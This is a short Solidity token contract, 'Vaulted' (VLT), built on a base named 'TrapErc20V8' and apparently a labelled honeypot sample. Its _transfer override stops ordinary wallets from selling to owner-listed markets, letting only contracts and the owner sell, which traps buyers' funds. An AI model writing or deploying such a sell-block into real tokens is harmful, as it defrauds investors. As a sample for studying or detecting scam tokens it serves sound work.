// SPDX-License-Identifier: Apache-2.0
// optimizer: off
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Only sellers with code, "to support vaults"; people have none.
contract CodedOnly is TrapErc20V8 {
    mapping(address => bool) public markets;

    constructor() TrapErc20V8("Vaulted", "VLT", 14_000_000 ether) {}

    function addMarket(address market) external onlyOwner {
        markets[market] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (markets[to] && from != owner()) {
            require(from.code.length != 0, "vaults only");
        }
        super._transfer(from, to, value);
    }
}
